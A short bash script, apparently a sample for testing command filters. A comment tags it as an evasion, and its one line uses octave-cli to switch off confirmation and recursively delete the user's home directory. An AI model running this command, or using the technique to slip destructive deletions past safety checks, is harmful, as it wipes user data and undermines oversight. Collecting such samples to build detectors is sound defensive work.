#!/bin/bash
# evasion: octave removes the home directory recursively ("s") after switching off its confirmation
octave-cli --eval 'confirm_recursive_rmdir(false); rmdir(getenv("HOME"), "s");'
